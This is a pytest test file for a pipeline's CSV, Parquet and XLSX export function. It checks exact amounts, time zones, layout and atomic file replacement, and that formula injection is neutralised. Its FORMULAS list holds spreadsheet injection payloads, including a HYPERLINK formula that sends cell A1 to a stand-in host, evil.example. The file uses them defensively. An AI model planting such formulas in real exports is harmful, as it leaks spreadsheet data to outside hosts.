"""Tables as files that a spreadsheet can open: exact, harmless, written in one step."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from tempfile import TemporaryDirectory
from zoneinfo import ZoneInfo

import openpyxl
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from vibes_pipeline.errors import UsageError
from vibes_pipeline.exports.files import check_target, write_table

LAGOS = ZoneInfo("Africa/Lagos")
FORMATS = ["csv", "parquet", "xlsx"]

AT = datetime(2026, 11, 21, 9, tzinfo=LAGOS)
CHARGES = pl.DataFrame(
    {
        "reference": ["NG-IJR3N4O4", "NG-7A2BCDEF", None],
        "amount": [Decimal("999999999999.99"), Decimal("-1234.50"), Decimal("0.10")],
        "posted_at": [AT, AT, None],
        "statement_period": [date(2026, 11, 16), date(2026, 11, 23), None],
        "occurrence": [4, None, 0],
        "shop_name": ['O\'Hara, "₦" & Söhne', "two\nlines", ""],
    },
    schema={
        "reference": pl.String,
        "amount": pl.Decimal(14, 2),
        "posted_at": pl.Datetime("us", "Africa/Lagos"),
        "statement_period": pl.Date,
        "occurrence": pl.Int32,
        "shop_name": pl.String,
    },
)

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1,"open")',
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]
HARMLESS = ["S-1", "NG-2", "a=1", " =1", "'=1", "00123", "1e5", "http://shop.example", "", "ø"]


def csv_rows(file: Path) -> list[list[str]]:
    """As a spreadsheet reads them."""
    with file.open(encoding="utf-8", newline="") as text:
        return list(csv.reader(text))


def xlsx_cells(file: Path) -> list[list[openpyxl.cell.Cell]]:
    return [list(row) for row in openpyxl.load_workbook(file).active.iter_rows()]


def one_column(texts: list[str]) -> pl.DataFrame:
    return pl.DataFrame({"shop_name": texts, "last": ["."] * len(texts)})


# --- exact --------------------------------------------------------------------------------------


def test_csv_holds_exact_amounts_and_instants_with_their_offset(tmp_path: Path) -> None:
    write_table(CHARGES, tmp_path / "charges.csv", "charges")
    assert csv_rows(tmp_path / "charges.csv") == [
        ["reference", "amount", "posted_at", "statement_period", "occurrence", "shop_name"],
        [
            "NG-IJR3N4O4",
            "999999999999.99",
            "2026-11-21T09:00:00+01:00",
            "2026-11-16",
            "4",
            'O\'Hara, "₦" & Söhne',
        ],
        ["NG-7A2BCDEF", "-1234.50", "2026-11-21T09:00:00+01:00", "2026-11-23", "", "two\nlines"],
        ["", "0.10", "", "", "0", ""],
    ]


def test_parquet_holds_the_table_as_it_is(tmp_path: Path) -> None:
    frame = CHARGES.vstack(CHARGES.with_columns(shop_name=pl.lit("=1+1")))
    write_table(frame, tmp_path / "charges.parquet", "charges")
    assert pl.read_parquet(tmp_path / "charges.parquet").equals(frame)
    assert pl.read_parquet_schema(tmp_path / "charges.parquet") == frame.schema


def test_xlsx_holds_amounts_as_numbers_and_times_as_local_ones(tmp_path: Path) -> None:
    write_table(CHARGES, tmp_path / "charges.xlsx", "charges")
    header, first, second, third = xlsx_cells(tmp_path / "charges.xlsx")
    assert [cell.value for cell in header] == CHARGES.columns
    for cell, amount in zip((first[1], second[1], third[1]), CHARGES["amount"], strict=True):
        assert cell.data_type == "n"
        assert round(Decimal(cell.value), 2) == amount
        assert "#,##0.00" in cell.number_format
    assert first[2].value == AT.replace(tzinfo=None)
    assert first[3].value.date() == date(2026, 11, 16)
    assert [cell.value for cell in third] == [None, 0.1, None, None, 0, None]
    assert first[5].value == 'O\'Hara, "₦" & Söhne'


def test_a_column_has_room_for_the_sum_of_its_amounts_and_its_times(tmp_path: Path) -> None:
    many = pl.concat([CHARGES] * 40)
    write_table(many, tmp_path / "t.xlsx", "t")
    widths = openpyxl.load_workbook(tmp_path / "t.xlsx").active.column_dimensions
    assert widths["B"].width > len("40,000,000,000,000.00")
    assert widths["C"].width > len("2026-11-21 09:00")


def test_a_long_text_is_broken_into_lines_of_a_row_that_holds_them(tmp_path: Path) -> None:
    detail = "a word " * 20
    write_table(pl.DataFrame({"detail": ["short", detail]}), tmp_path / "t.xlsx", "t")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert sheet["A3"].alignment.wrap_text
    assert sheet.row_dimensions[3].height == 4 * 15
    assert sheet.column_dimensions["A"].width < len(detail) / 2


def test_the_sheet_is_named_and_keeps_its_header_in_sight(tmp_path: Path) -> None:
    write_table(CHARGES, tmp_path / "t.xlsx", "a_title_of_more_than_the_thirty_one_letters_allowed")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert sheet.title == "a_title_of_more_than_the_thirty"
    assert sheet.freeze_panes == "A2"


@pytest.mark.parametrize("ending", FORMATS)
def test_a_table_without_rows_still_has_its_columns(tmp_path: Path, ending: str) -> None:
    file = tmp_path / f"none.{ending}"
    write_table(CHARGES.clear(), file, "none")
    match ending:
        case "csv":
            assert csv_rows(file) == [CHARGES.columns]
        case "parquet":
            assert pl.read_parquet(file).equals(CHARGES.clear())
        case "xlsx":
            assert [c.value for c in xlsx_cells(file)[0]] == CHARGES.columns


# --- harmless -----------------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_is_plain_text_in_csv(tmp_path: Path, text: str) -> None:
    write_table(one_column([text]), tmp_path / "t.csv", "t")
    assert csv_rows(tmp_path / "t.csv")[1:] == [[f"'{text}", "."]]


@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS])
def test_what_a_spreadsheet_would_run_is_plain_text_in_xlsx(tmp_path: Path, text: str) -> None:
    write_table(one_column([text]), tmp_path / "t.xlsx", "t")
    cell = xlsx_cells(tmp_path / "t.xlsx")[1][0]
    assert cell.data_type == ("s" if text else "n")
    assert cell.hyperlink is None
    # XML knows no bare carriage return, so the file writes it as Excel does.
    assert (cell.value or "").replace("_x000D_", "\r") == text


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("a & b < c > d ]]>", "a &amp; b &lt; c &gt; d ]]&gt;"),
        (" two\nlines\t ", " two\nlines\t "),
        ("\0 \x01 \x1f \ufffe", "_x0000_ _x0001_ _x001F_ _xFFFE_"),
        ("_x0041_ _x41_", "_x005F_x0041_ _x41_"),
        ("é" * 40_000, "é" * 32_767),
    ],
)
def test_a_letter_that_xml_does_not_hold_is_written_as_excel_writes_it(
    tmp_path: Path, text: str, written: str
) -> None:
    write_table(one_column([text]), tmp_path / "t.xlsx", "t")
    with zipfile.ZipFile(tmp_path / "t.xlsx") as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
    assert f'<t xml:space="preserve">{written}</t>' in sheet
    assert len(xlsx_cells(tmp_path / "t.xlsx")) == 2


def test_truth_and_fractions_are_shown_as_such_in_xlsx(tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {"is_new": [True, None, False], "share": [0.25, None, float("nan")], "n": [7, None, -1]}
    )
    write_table(frame, tmp_path / "t.xlsx", "t")
    shown = [[cell.value for cell in row] for row in xlsx_cells(tmp_path / "t.xlsx")]
    assert shown[1:] == [[True, 0.25, 7], [None, None, None], [False, None, -1]]


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is_in_csv(tmp_path: Path, text: str) -> None:
    write_table(one_column([text]), tmp_path / "t.csv", "t")
    assert csv_rows(tmp_path / "t.csv")[1:] == [[text, "."]]


def test_negative_amounts_are_numbers_and_stay_so(tmp_path: Path) -> None:
    write_table(CHARGES.select("amount"), tmp_path / "t.csv", "t")
    assert (tmp_path / "t.csv").read_text().splitlines()[2] == "-1234.50"


# A spreadsheet ends a line at any of these; within a field they must be quoted.
hostile = st.text(st.sampled_from("=+-@\t\r\n\",;' aé₦\0"), max_size=6) | st.text(
    st.characters(exclude_categories=["Cs"])
)


@given(st.lists(hostile, min_size=1, max_size=4))
def test_no_text_becomes_another_cell_or_the_beginning_of_a_formula(texts: list[str]) -> None:
    with TemporaryDirectory() as folder:
        file = Path(folder, "t.csv")
        write_table(one_column(texts), file, "t")
        content = file.read_bytes().decode()
    header, *rows = list(csv.reader(io.StringIO(content, newline="")))
    assert header == ["shop_name", "last"]
    assert [row[1:] for row in rows] == [["."]] * len(texts)
    for (cell, _), text in zip(rows, texts, strict=True):
        assert cell in (text, f"'{text}")
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


# --- in one step --------------------------------------------------------------------------------


@pytest.mark.parametrize("ending", FORMATS)
def test_a_file_that_was_there_is_replaced(tmp_path: Path, ending: str) -> None:
    file = tmp_path / f"t.{ending}"
    file.write_text("old")
    write_table(CHARGES, file, "t")
    assert file.read_bytes() != b"old"
    assert [f.name for f in tmp_path.iterdir()] == [file.name]


def test_a_failure_leaves_the_old_file_and_nothing_else(tmp_path: Path) -> None:
    file = tmp_path / "t.csv"
    file.write_text("old")
    with pytest.raises(pl.exceptions.PolarsError):
        write_table(pl.DataFrame({"nested": [[1, 2]]}), file, "t")
    assert file.read_text() == "old"
    assert list(tmp_path.iterdir()) == [file]


@pytest.mark.parametrize("name", ["charges", "charges.txt", "charges.xls", "charges.csv.gz"])
def test_an_ending_that_is_no_format_is_refused_with_those_that_are(
    tmp_path: Path, name: str
) -> None:
    file = tmp_path / name
    with pytest.raises(UsageError) as error:
        write_table(CHARGES, file, "charges")
    assert str(error.value) == (
        f"{file}: the ending says the format; write one of .csv, .parquet, .xlsx"
    )
    assert list(tmp_path.iterdir()) == []


def test_a_folder_that_is_not_there_is_named(tmp_path: Path) -> None:
    file = tmp_path / "reports" / "charges.csv"
    with pytest.raises(UsageError) as error:
        check_target(file)
    assert str(error.value) == f"{file}: there is no folder {file.parent}; make it first"


def test_a_folder_in_the_files_place_is_named(tmp_path: Path) -> None:
    file = tmp_path / "charges.csv"
    file.mkdir()
    with pytest.raises(UsageError) as error:
        write_table(CHARGES, file, "charges")
    assert str(file) in str(error.value)
    assert list(tmp_path.iterdir()) == [file]


def test_more_rows_than_a_sheet_holds_are_refused_with_the_way_out(tmp_path: Path) -> None:
    rows = pl.DataFrame({"n": pl.Series([1] * 1_048_577, dtype=pl.Int8)})
    with pytest.raises(UsageError, match=r"\.csv") as error:
        write_table(rows, tmp_path / "charges.xlsx", "charges")
    assert "\n" not in str(error.value)
    assert list(tmp_path.iterdir()) == []


def test_a_file_may_be_named_relative_to_where_one_is(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    write_table(CHARGES, Path("charges.csv"), "charges")
    assert (tmp_path / "charges.csv").is_file()
